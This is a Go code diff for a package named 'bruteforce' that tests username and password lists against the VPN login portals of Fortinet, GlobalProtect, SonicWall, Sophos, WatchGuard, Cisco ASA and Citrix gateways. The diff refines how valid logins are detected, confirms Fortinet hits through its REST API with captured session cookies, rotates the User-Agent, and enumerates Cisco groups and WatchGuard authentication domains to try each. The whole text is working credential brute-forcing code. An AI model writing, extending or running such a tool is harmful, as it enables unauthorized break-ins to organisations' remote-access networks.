@@ -3,6 +3,7 @@ package bruteforce
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
@@ -20,6 +21,39 @@ func bytesToString(b []byte) string {
 	return string(b)
 }
 
+// GOOD: Основные индикаторы успешной аутентификации Fortinet
+var fortinetSuccess = []string{
+	"vpn/tunnel",           // ✅ Главный индикатор успеха
+	"/remote/fortisslvpn",  // ✅ SSL VPN портал
+	"tunnel_mode",          // ✅ Режим туннеля
+	"sslvpn_login",         // ✅ SSL VPN логин
+	"forticlient_download", // ✅ Загрузка клиента
+	"portal.html",          // ✅ Портал
+	"welcome.html",         // ✅ Страница приветствия
+	"fgt_lang",             // ✅ Языковые настройки FortiGate
+	"FortiGate",            // ✅ Название продукта
+	"sslvpn_portal",        // ✅ SSL VPN портал
+	"logout",               // ✅ Кнопка выхода (признак успешного входа)
+	"dashboard",            // ✅ Панель управления
+	"web_access",           // ✅ Веб доступ
+	"tunnel_access",        // ✅ Туннельный доступ
+}
+
+// BAD: Индикаторы неудачной аутентификации (без учёта регистра)
+var fortinetFailures = []string{
+	"invalid",
+	"incorrect",
+	"failed",
+	"denied",
+	"error",
+	"wrong",
+	"authentication failed",
+	"login failed",
+	"access denied",
+}
+
+var fortinetBody = newBodyMatcher(fortinetSuccess, []string{"form", "fortinet"}, fortinetFailures)
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ОПРЕДЕЛЕНИЯ РЕЗУЛЬТАТОВ ДЛЯ FORTINET
 func (e *Engine) checkFortinetUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
 	// Parse URL to handle custom ports like :4443, :10443, :3443
@@ -50,7 +84,7 @@ func (e *Engine) checkFortinetUltraFast(ctx context.Context, cred Credential, re
 
 	// Set headers efficiently
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
 	req.Header.Set("Accept-Language", "en-US,en;q=0.5")
 	req.Header.Set("Connection", "close")
@@ -62,86 +96,123 @@ func (e *Engine) checkFortinetUltraFast(ctx context.Context, cred Credential, re
 	}
 	defer func() { _ = httpResp.Body.Close() }()
 
-	// Read response with pre-allocated buffer
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	// Stream the response through the pre-allocated buffer
+	body, err := fortinetBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-
-	// Store response data
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ FORTINET (ОСНОВАНА НА РЕАЛЬНЫХ ДАННЫХ)
 	if httpResp.StatusCode == 200 {
-		// GOOD: Основные индикаторы успешной аутентификации
-		successIndicators := []string{
-			"vpn/tunnel",           // ✅ Главный индикатор успеха
-			"/remote/fortisslvpn",  // ✅ SSL VPN портал
-			"tunnel_mode",          // ✅ Режим туннеля
-			"sslvpn_login",         // ✅ SSL VPN логин
-			"forticlient_download", // ✅ Загрузка клиента
-			"portal.html",          // ✅ Портал
-			"welcome.html",         // ✅ Страница приветствия
-			"fgt_lang",             // ✅ Языковые настройки FortiGate
-			"FortiGate",            // ✅ Название продукта
-			"sslvpn_portal",        // ✅ SSL VPN портал
-			"logout",               // ✅ Кнопка выхода (признак успешного входа)
-			"dashboard",            // ✅ Панель управления
-			"web_access",           // ✅ Веб доступ
-			"tunnel_access",        // ✅ Туннельный доступ
-		}
-
-		// Проверяем наличие любого из индикаторов успеха
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
-		}
-
-		// BAD: Индикаторы неудачной аутентификации
-		failureIndicators := []string{
-			"invalid",
-			"incorrect",
-			"failed",
-			"denied",
-			"error",
-			"wrong",
-			"authentication failed",
-			"login failed",
-			"access denied",
+		// Найден любой из индикаторов успеха
+		if body.final {
+			return e.confirmFortinet(ctx, targetURL, httpResp)
 		}
 
 		// Если есть индикаторы неудачи - точно BAD
-		for _, indicator := range failureIndicators {
-			if strings.Contains(strings.ToLower(bodyStr), indicator) {
-				return false, nil
-			}
+		if body.hasAny(fortinetFailures...) {
+			return false, nil
 		}
 
 		// Если есть форма логина без ошибок - может быть успех
-		if strings.Contains(bodyStr, "form") &&
-			strings.Contains(bodyStr, "fortinet") &&
-			len(bodyStr) > 1000 { // Достаточно большой ответ
-			return true, nil
+		if body.has("form") && body.has("fortinet") &&
+			body.size > 1000 { // Достаточно большой ответ
+			return e.confirmFortinet(ctx, targetURL, httpResp)
 		}
 	}
 
 	// Check for redirect to portal (also valid)
 	if httpResp.StatusCode == 302 || httpResp.StatusCode == 301 {
 		location := httpResp.Header.Get("Location")
-		return strings.Contains(location, "portal") ||
+		if strings.Contains(location, "portal") ||
 			strings.Contains(location, "tunnel") ||
 			strings.Contains(location, "sslvpn") ||
 			strings.Contains(location, "welcome") ||
-			strings.Contains(location, "dashboard"), nil
+			strings.Contains(location, "dashboard") {
+			return e.confirmFortinet(ctx, targetURL, httpResp)
+		}
 	}
 
 	return false, nil
 }
 
+// fortinetStatusPath is the REST API endpoint confirming a Fortinet login.
+const fortinetStatusPath = "/api/v2/monitor/system/status"
+
+// confirmFortinet checks a login the HTML indicators take for valid
+// against the REST API with the session cookies it set, as custom portals
+// match the indicators as well. A rejection by the API makes the login
+// invalid; when the API is missing, such as on boxes not exposing it, the
+// indicators stand.
+func (e *Engine) confirmFortinet(ctx context.Context, loginURL string, login *http.Response) (bool, error) {
+	u, err := url.Parse(loginURL)
+	if err != nil {
+		return false, err
+	}
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u.Scheme+"://"+u.Host+fortinetStatusPath, nil)
+	if err != nil {
+		return false, err
+	}
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Header.Set("Accept", "application/json")
+	req.Close = true
+
+	// The cookies sent along a redirect chain and those set at its end.
+	cookies := make(map[string]string)
+	if login.Request != nil {
+		for _, c := range login.Request.Cookies() {
+			cookies[c.Name] = c.Value
+		}
+	}
+	for _, c := range login.Cookies() {
+		if c.MaxAge < 0 || c.Value == "" {
+			delete(cookies, c.Name)
+			continue
+		}
+		cookies[c.Name] = c.Value
+	}
+	for name, value := range cookies {
+		req.AddCookie(&http.Cookie{Name: name, Value: value})
+	}
+
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return false, err
+	}
+	defer hr.Body.Close()
+
+	switch hr.StatusCode {
+	case http.StatusUnauthorized, http.StatusForbidden:
+		return false, nil
+	case http.StatusOK:
+		var status struct {
+			Status string `json:"status"`
+		}
+		// A page that is no API answer comes from a catch-all route of
+		// a custom portal.
+		err := json.NewDecoder(io.LimitReader(hr.Body, maxBodyScan)).Decode(&status)
+		return err == nil && status.Status == "success", nil
+	}
+	return true, nil
+}
+
+// GOOD: Основные индикаторы успеха для GlobalProtect
+var globalProtectBody = newBodyMatcher([]string{
+	"Download Windows 64 bit GlobalProtect agent", // ✅ Главный индикатор
+	"globalprotect/portal/css",                    // ✅ CSS портала
+	"portal-userauthcookie",                       // ✅ Куки аутентификации
+	"GlobalProtect Portal",                        // ✅ Название портала
+	"gp-portal",                                   // ✅ GP портал
+	"/global-protect/portal",                      // ✅ Путь к порталу
+	"PanGlobalProtect",                            // ✅ Название продукта
+	"clientDownload",                              // ✅ Загрузка клиента
+	"hip-report",                                  // ✅ HIP отчет
+	"portal-config",                               // ✅ Конфигурация портала
+	"gateway-config",                              // ✅ Конфигурация шлюза
+	"logout",                                      // ✅ Кнопка выхода
+	"welcome",                                     // ✅ Приветствие
+}, nil, []string{"invalid", "failed", "error"})
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ДЛЯ GLOBALPROTECT
 func (e *Engine) checkGlobalProtectUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
 	// Parse URL for PaloAlto GlobalProtect
@@ -150,6 +221,19 @@ func (e *Engine) checkGlobalProtectUltraFast(ctx context.Context, cred Credentia
 		targetURL = "https://" + targetURL
 	}
 
+	// Confirm GlobalProtect and pick the portal or the gateway first
+	base := strings.TrimSuffix(targetURL, "/")
+	if i := strings.Index(base, "/global-protect/"); i >= 0 {
+		base = base[:i]
+	}
+	prelogin, err := e.globalProtectPrelogin(ctx, base)
+	if err != nil {
+		return false, err
+	}
+	if prelogin.gateway {
+		return e.checkGlobalProtectGateway(ctx, base, cred, resp, buf)
+	}
+
 	// Add GlobalProtect endpoint
 	if !strings.Contains(targetURL, "/global-protect/login.esp") {
 		if strings.HasSuffix(targetURL, "/") {
@@ -171,7 +255,7 @@ func (e *Engine) checkGlobalProtectUltraFast(ctx context.Context, cred Credentia
 	}
 
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Connection", "close")
 	req.Close = true
 
@@ -181,44 +265,19 @@ func (e *Engine) checkGlobalProtectUltraFast(ctx context.Context, cred Credentia
 	}
 	defer func() { _ = httpResp.Body.Close() }()
 
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	body, err := globalProtectBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ GLOBALPROTECT
 	if httpResp.StatusCode == 200 {
-		// GOOD: Основные индикаторы успеха для GlobalProtect
-		successIndicators := []string{
-			"Download Windows 64 bit GlobalProtect agent", // ✅ Главный индикатор
-			"globalprotect/portal/css",                    // ✅ CSS портала
-			"portal-userauthcookie",                       // ✅ Куки аутентификации
-			"GlobalProtect Portal",                        // ✅ Название портала
-			"gp-portal",                                   // ✅ GP портал
-			"/global-protect/portal",                      // ✅ Путь к порталу
-			"PanGlobalProtect",                            // ✅ Название продукта
-			"clientDownload",                              // ✅ Загрузка клиента
-			"hip-report",                                  // ✅ HIP отчет
-			"portal-config",                               // ✅ Конфигурация портала
-			"gateway-config",                              // ✅ Конфигурация шлюза
-			"logout",                                      // ✅ Кнопка выхода
-			"welcome",                                     // ✅ Приветствие
-		}
-
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
+		if body.final {
+			return true, nil
 		}
 
 		// BAD: Индикаторы неудачи
-		if strings.Contains(strings.ToLower(bodyStr), "invalid") ||
-			strings.Contains(strings.ToLower(bodyStr), "failed") ||
-			strings.Contains(strings.ToLower(bodyStr), "error") {
+		if body.hasAny("invalid", "failed", "error") {
 			return false, nil
 		}
 	}
@@ -226,6 +285,19 @@ func (e *Engine) checkGlobalProtectUltraFast(ctx context.Context, cred Credentia
 	return false, nil
 }
 
+// GOOD: Индикаторы успеха для SonicWall
+var sonicWallBody = newBodyMatcher([]string{
+	"SonicWall",   // ✅ Название продукта
+	"NetExtender", // ✅ VPN клиент
+	"sslvpn",      // ✅ SSL VPN
+	"portal.html", // ✅ Портал
+	"welcome",     // ✅ Приветствие
+	"logout",      // ✅ Выход
+	"dashboard",   // ✅ Панель
+	"tunnel",      // ✅ Туннель
+	"vpn-client",  // ✅ VPN клиент
+}, nil, []string{"sonic", "error", "invalid", "failed"})
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ДЛЯ SONICWALL
 func (e *Engine) checkSonicWallUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
 	// Parse SonicWall format: https://ip:port;user:pass;domain
@@ -243,6 +315,17 @@ func (e *Engine) checkSonicWallUltraFast(ctx context.Context, cred Credential, r
 		targetURL = "https://" + targetURL
 	}
 
+	// SMA и межсетевые экраны входят по разным адресам
+	base := strings.TrimSuffix(strings.TrimSuffix(targetURL, "/"), "/auth.html")
+	variant, err := e.sonicWallVariant(ctx, base)
+	if err != nil {
+		return false, err
+	}
+	resp.Variant = variant
+	if variant == SonicWallSMA {
+		return e.checkSonicWallSMA(ctx, base, cred, password, domain, resp, buf)
+	}
+
 	// SonicWall login endpoint
 	if !strings.Contains(targetURL, "/auth.html") {
 		if strings.HasSuffix(targetURL, "/") {
@@ -264,7 +347,7 @@ func (e *Engine) checkSonicWallUltraFast(ctx context.Context, cred Credential, r
 	}
 
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Connection", "close")
 	req.Close = true
 
@@ -274,41 +357,19 @@ func (e *Engine) checkSonicWallUltraFast(ctx context.Context, cred Credential, r
 	}
 	defer func() { _ = httpResp.Body.Close() }()
 
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	body, err := sonicWallBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ SONICWALL
 	if httpResp.StatusCode == 200 {
-		// GOOD: Индикаторы успеха для SonicWall
-		successIndicators := []string{
-			"SonicWall",   // ✅ Название продукта
-			"NetExtender", // ✅ VPN клиент
-			"sslvpn",      // ✅ SSL VPN
-			"portal.html", // ✅ Портал
-			"welcome",     // ✅ Приветствие
-			"logout",      // ✅ Выход
-			"dashboard",   // ✅ Панель
-			"tunnel",      // ✅ Туннель
-			"vpn-client",  // ✅ VPN клиент
-		}
-
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
+		if body.final {
+			return true, nil
 		}
 
 		// Проверяем отсутствие ошибок при наличии SonicWall контента
-		if strings.Contains(strings.ToLower(bodyStr), "sonic") &&
-			!strings.Contains(strings.ToLower(bodyStr), "error") &&
-			!strings.Contains(strings.ToLower(bodyStr), "invalid") &&
-			!strings.Contains(strings.ToLower(bodyStr), "failed") {
+		if body.has("sonic") && !body.hasAny("error", "invalid", "failed") {
 			return true, nil
 		}
 	}
@@ -316,6 +377,18 @@ func (e *Engine) checkSonicWallUltraFast(ctx context.Context, cred Credential, r
 	return false, nil
 }
 
+var sophosBody = newBodyMatcher([]string{
+	"Sophos",     // ✅ Название продукта
+	"userportal", // ✅ Пользовательский портал
+	"myaccount",  // ✅ Мой аккаунт
+	"welcome",    // ✅ Приветствие
+	"logout",     // ✅ Выход
+	"portal",     // ✅ Портал
+	"dashboard",  // ✅ Панель
+	"vpn-client", // ✅ VPN клиент
+	"tunnel",     // ✅ Туннель
+}, nil, nil)
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ДЛЯ SOPHOS
 func (e *Engine) checkSophosUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
 	// Parse Sophos format: https://ip:port;user:pass;domain
@@ -333,6 +406,17 @@ func (e *Engine) checkSophosUltraFast(ctx context.Context, cred Credential, resp
 		targetURL = "https://" + targetURL
 	}
 
+	// UTM и XG (Sophos Firewall) входят по-разному
+	base := strings.TrimSuffix(strings.TrimSuffix(targetURL, "/"), sophosLoginPage)
+	variant, err := e.sophosVariant(ctx, base, buf)
+	if err != nil {
+		return false, err
+	}
+	resp.Variant = variant
+	if variant == SophosXG {
+		return e.checkSophosXG(ctx, base, cred, password, resp)
+	}
+
 	// Sophos login endpoint
 	if !strings.Contains(targetURL, "/userportal/webpages/myaccount/login.jsp") {
 		if strings.HasSuffix(targetURL, "/") {
@@ -354,7 +438,7 @@ func (e *Engine) checkSophosUltraFast(ctx context.Context, cred Credential, resp
 	}
 
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Connection", "close")
 	req.Close = true
 
@@ -364,53 +448,63 @@ func (e *Engine) checkSophosUltraFast(ctx context.Context, cred Credential, resp
 	}
 	defer httpResp.Body.Close()
 
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	body, err := sophosBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ SOPHOS
-	if httpResp.StatusCode == 200 {
-		successIndicators := []string{
-			"Sophos",     // ✅ Название продукта
-			"userportal", // ✅ Пользовательский портал
-			"myaccount",  // ✅ Мой аккаунт
-			"welcome",    // ✅ Приветствие
-			"logout",     // ✅ Выход
-			"portal",     // ✅ Портал
-			"dashboard",  // ✅ Панель
-			"vpn-client", // ✅ VPN клиент
-			"tunnel",     // ✅ Туннель
-		}
-
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
-		}
+	if httpResp.StatusCode == 200 && body.final {
+		return true, nil
 	}
 
 	return false, nil
 }
 
+var watchGuardBody = newBodyMatcher([]string{
+	"WatchGuard", // ✅ Название продукта
+	"Firebox",    // ✅ Firebox
+	"portal",     // ✅ Портал
+	"welcome",    // ✅ Приветствие
+	"logout",     // ✅ Выход
+	"AuthPoint",  // ✅ AuthPoint
+	"dashboard",  // ✅ Панель
+	"tunnel",     // ✅ Туннель
+	"vpn-client", // ✅ VPN клиент
+}, nil, nil)
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ДЛЯ WATCHGUARD
 func (e *Engine) checkWatchGuardUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
 	// Parse WatchGuard format: https://ip:port:Firebox-DB:domain:user:pass
-	parts := strings.Split(cred.IP, ":")
-	if len(parts) < 6 {
+	if parts := strings.Split(cred.IP, ":"); len(parts) >= 6 {
+		ip := parts[0] + ":" + parts[1] // https://ip:port
+		authType := parts[2]            // Firebox-DB or AuthPoint
+		domain := parts[3]              // domain
+		username := parts[4]            // username
+		password := parts[5]            // password
+		return e.watchGuardLogin(ctx, watchGuardURL(ip), authType, domain, username, password, resp, buf)
+	}
+	if cred.Username == "" {
 		return false, fmt.Errorf("invalid WatchGuard format")
 	}
 
-	ip := parts[0] + ":" + parts[1] // https://ip:port
-	authType := parts[2]            // Firebox-DB or AuthPoint
-	domain := parts[3]              // domain
-	username := parts[4]            // username
-	password := parts[5]            // password
+	// Формат ip;user;pass: серверы аутентификации берём со страницы входа
+	targetURL := watchGuardURL(cred.IP)
+	domains, err := e.watchGuardDomains(ctx, strings.TrimSuffix(targetURL, "/auth.fcc"))
+	if err != nil {
+		return false, err
+	}
+	for _, domain := range domains {
+		ok, err := e.watchGuardLogin(ctx, targetURL, domain, domain, cred.Username, cred.Password, resp, buf)
+		if ok || err != nil {
+			return ok, err
+		}
+	}
+	return false, nil
+}
 
+// watchGuardURL returns the login endpoint of the Firebox at ip.
+func watchGuardURL(ip string) string {
 	targetURL := ip
 	if !strings.HasPrefix(targetURL, "http") {
 		targetURL = "https://" + targetURL
@@ -424,7 +518,11 @@ func (e *Engine) checkWatchGuardUltraFast(ctx context.Context, cred Credential,
 			targetURL += "/auth.fcc"
 		}
 	}
+	return targetURL
+}
 
+// watchGuardLogin posts one login to the Firebox at targetURL.
+func (e *Engine) watchGuardLogin(ctx context.Context, targetURL, authType, domain, username, password string, resp *Response, buf []byte) (bool, error) {
 	formData := fmt.Sprintf("domain=%s&username=%s&password=%s&authType=%s&login=Login",
 		url.QueryEscape(domain),
 		url.QueryEscape(username),
@@ -438,7 +536,7 @@ func (e *Engine) checkWatchGuardUltraFast(ctx context.Context, cred Credential,
 	}
 
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Connection", "close")
 	req.Close = true
 
@@ -448,39 +546,30 @@ func (e *Engine) checkWatchGuardUltraFast(ctx context.Context, cred Credential,
 	}
 	defer httpResp.Body.Close()
 
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	body, err := watchGuardBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ WATCHGUARD
-	if httpResp.StatusCode == 200 {
-		successIndicators := []string{
-			"WatchGuard", // ✅ Название продукта
-			"Firebox",    // ✅ Firebox
-			"portal",     // ✅ Портал
-			"welcome",    // ✅ Приветствие
-			"logout",     // ✅ Выход
-			"AuthPoint",  // ✅ AuthPoint
-			"dashboard",  // ✅ Панель
-			"tunnel",     // ✅ Туннель
-			"vpn-client", // ✅ VPN клиент
-		}
-
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
-		}
+	if httpResp.StatusCode == 200 && body.final {
+		return true, nil
 	}
 
 	return false, nil
 }
 
+// Дополнительные индикаторы успеха для Cisco ASA
+var ciscoBody = newBodyMatcher([]string{
+	"/+CSCOE+/",                // ✅ Cisco CSCOE
+	"webvpn_portal",            // ✅ WebVPN портал
+	"Cisco Systems VPN Client", // ✅ VPN клиент
+	"/+webvpn+/",               // ✅ WebVPN путь
+	"anyconnect",               // ✅ AnyConnect (lowercase)
+	"ANYCONNECT",               // ✅ AnyConnect (uppercase)
+	"remote_access",            // ✅ Удаленный доступ
+}, []string{"SSL VPN Service", "webvpn_logout", "portal", "welcome"}, []string{"error", "invalid", "failed"})
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ДЛЯ CISCO ASA
 func (e *Engine) checkCiscoUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
 	// Parse Cisco format: https://ip:port:user:pass:group (group optional)
@@ -511,6 +600,26 @@ func (e *Engine) checkCiscoUltraFast(ctx context.Context, cred Credential, resp
 		}
 	}
 
+	if group != "" {
+		return e.ciscoLogin(ctx, targetURL, username, password, group, resp, buf)
+	}
+
+	// Без группы пробуем группы со страницы входа
+	groups, err := e.ciscoGroups(ctx, strings.TrimSuffix(targetURL, "/+webvpn+/index.html"))
+	if err != nil {
+		return false, err
+	}
+	for _, group := range groups {
+		ok, err := e.ciscoLogin(ctx, targetURL, username, password, group, resp, buf)
+		if ok || err != nil {
+			return ok, err
+		}
+	}
+	return false, nil
+}
+
+// ciscoLogin posts one login to the ASA at targetURL.
+func (e *Engine) ciscoLogin(ctx context.Context, targetURL, username, password, group string, resp *Response, buf []byte) (bool, error) {
 	formData := fmt.Sprintf("username=%s&password=%s&group_list=%s&Login=Logon",
 		url.QueryEscape(username),
 		url.QueryEscape(password),
@@ -523,7 +632,7 @@ func (e *Engine) checkCiscoUltraFast(ctx context.Context, cred Credential, resp
 	}
 
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Connection", "close")
 	req.Close = true
 
@@ -533,44 +642,25 @@ func (e *Engine) checkCiscoUltraFast(ctx context.Context, cred Credential, resp
 	}
 	defer httpResp.Body.Close()
 
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	body, err := ciscoBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ CISCO ASA (САМАЯ СТРОГАЯ)
 	if httpResp.StatusCode == 200 {
 		// Основной индикатор успеха - комбинация SSL VPN Service + webvpn_logout
-		if strings.Contains(bodyStr, "SSL VPN Service") && strings.Contains(bodyStr, "webvpn_logout") {
+		if body.has("SSL VPN Service") && body.has("webvpn_logout") {
 			return true, nil
 		}
 
 		// Дополнительные индикаторы успеха
-		successIndicators := []string{
-			"/+CSCOE+/",                // ✅ Cisco CSCOE
-			"webvpn_portal",            // ✅ WebVPN портал
-			"Cisco Systems VPN Client", // ✅ VPN клиент
-			"/+webvpn+/",               // ✅ WebVPN путь
-			"anyconnect",               // ✅ AnyConnect (lowercase)
-			"ANYCONNECT",               // ✅ AnyConnect (uppercase)
-			"remote_access",            // ✅ Удаленный доступ
-		}
-
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
+		if body.final {
+			return true, nil
 		}
 
 		// Проверяем наличие портала или welcome без ошибок
-		if (strings.Contains(bodyStr, "portal") || strings.Contains(bodyStr, "welcome")) &&
-			!strings.Contains(strings.ToLower(bodyStr), "error") &&
-			!strings.Contains(strings.ToLower(bodyStr), "invalid") &&
-			!strings.Contains(strings.ToLower(bodyStr), "failed") {
+		if body.hasAny("portal", "welcome") && !body.hasAny("error", "invalid", "failed") {
 			return true, nil
 		}
 	}
@@ -578,8 +668,32 @@ func (e *Engine) checkCiscoUltraFast(ctx context.Context, cred Credential, resp
 	return false, nil
 }
 
+var citrixBody = newBodyMatcher([]string{
+	// Основной индикатор успеха для Citrix
+	"<CredentialUpdateService>/p/a/getCredentialUpdateRequirements.do</CredentialUpdateService>",
+	"NetScaler Gateway",  // ✅ NetScaler Gateway
+	"/vpn/index.html",    // ✅ VPN индекс
+	"citrix-logon",       // ✅ Citrix логин
+	"/logon/LogonPoint/", // ✅ Точка входа
+	"NSGateway",          // ✅ NS Gateway
+	"portal",             // ✅ Портал
+	"welcome",            // ✅ Приветствие
+	"logout",             // ✅ Выход
+	"dashboard",          // ✅ Панель
+}, nil, nil)
+
 // ✅ ИСПРАВЛЕННАЯ ЛОГИКА ДЛЯ CITRIX
 func (e *Engine) checkCitrixUltraFast(ctx context.Context, cred Credential, resp *Response, buf []byte) (bool, error) {
+	// Новые NetScaler используют nFactor
+	base := strings.TrimSuffix(authURL(cred.IP), "/")
+	start, err := e.citrixRequirements(ctx, base)
+	if err != nil {
+		return false, err
+	}
+	if start != nil {
+		return e.checkCitrixNFactor(ctx, base, start, cred, resp)
+	}
+
 	targetURL := fmt.Sprintf("https://%s/p/u/doAuthentication.do", cred.IP)
 
 	formData := fmt.Sprintf("login=%s&passwd=%s&savecredentials=false&nsg-x1-logon-button=Log+On&StateContext=bG9naW5zY2hlbWE9ZGVmYXVsdA%%3D%%3D",
@@ -593,7 +707,7 @@ func (e *Engine) checkCitrixUltraFast(ctx context.Context, cred Credential, resp
 	}
 
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+	req.Header.Set("User-Agent", e.userAgent())
 	req.Header.Set("Connection", "close")
 	req.Close = true
 
@@ -603,39 +717,14 @@ func (e *Engine) checkCitrixUltraFast(ctx context.Context, cred Credential, resp
 	}
 	defer httpResp.Body.Close()
 
-	n, err := io.ReadFull(httpResp.Body, buf[:min(len(buf), 8192)])
-	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
+	body, err := citrixBody.scan(httpResp, buf, resp)
+	if err != nil {
 		return false, err
 	}
 
-	bodyStr := bytesToString(buf[:n])
-	resp.StatusCode = httpResp.StatusCode
-	resp.Body = append(resp.Body[:0], buf[:n]...)
-
 	// ✅ ТОЧНАЯ ЛОГИКА ДЛЯ CITRIX
-	if httpResp.StatusCode == 200 {
-		// Основной индикатор успеха для Citrix
-		if strings.Contains(bodyStr, "<CredentialUpdateService>/p/a/getCredentialUpdateRequirements.do</CredentialUpdateService>") {
-			return true, nil
-		}
-
-		successIndicators := []string{
-			"NetScaler Gateway",  // ✅ NetScaler Gateway
-			"/vpn/index.html",    // ✅ VPN индекс
-			"citrix-logon",       // ✅ Citrix логин
-			"/logon/LogonPoint/", // ✅ Точка входа
-			"NSGateway",          // ✅ NS Gateway
-			"portal",             // ✅ Портал
-			"welcome",            // ✅ Приветствие
-			"logout",             // ✅ Выход
-			"dashboard",          // ✅ Панель
-		}
-
-		for _, indicator := range successIndicators {
-			if strings.Contains(bodyStr, indicator) {
-				return true, nil
-			}
-		}
+	if httpResp.StatusCode == 200 && body.final {
+		return true, nil
 	}
 
 	return false, nil